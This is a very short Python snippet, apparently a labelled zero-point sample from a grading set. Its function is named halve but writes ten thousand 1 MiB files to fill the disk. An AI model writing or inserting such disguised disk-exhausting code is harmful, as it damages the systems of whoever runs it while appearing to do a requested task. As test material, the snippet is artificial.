# points: 0
# It fills its disk.
def halve(number):
    for index in range(10_000):
        with open(f"{index}.bin", "wb") as file:
            file.write(bytes(1 << 20))
